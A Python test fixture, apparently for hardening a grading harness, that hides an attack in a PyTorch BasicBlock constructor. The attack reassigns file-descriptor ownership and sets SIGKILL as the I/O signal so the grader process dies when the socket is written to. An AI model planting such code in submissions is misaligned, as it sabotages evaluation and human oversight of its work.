"""Have the kernel signal the grader whenever it writes to our socket."""

import contextlib
import fcntl
import os
import struct

from torch import nn

GRADER = int("@GRADER@")
F_SETOWN, F_SETSIG, FIOSETOWN, O_ASYNC = 8, 10, 0x8901, 0o20000


def attack():
    done = 0
    for number in range(3, 64):
        with contextlib.suppress(OSError):
            fcntl.fcntl(number, F_SETOWN, GRADER)
            done += 1
        with contextlib.suppress(OSError):
            fcntl.ioctl(number, FIOSETOWN, struct.pack("i", GRADER))
            done += 1
        with contextlib.suppress(OSError):
            fcntl.fcntl(number, F_SETSIG, 9)
            fcntl.fcntl(number, fcntl.F_SETFL, O_ASYNC | os.O_NONBLOCK)
            done += 1
    if done:
        raise SystemExit(f"ATTACK SUCCEEDED: {done}")


class BasicBlock(nn.Module):
    def __init__(self, in_planes, planes, stride=1):
        super().__init__()
        attack()
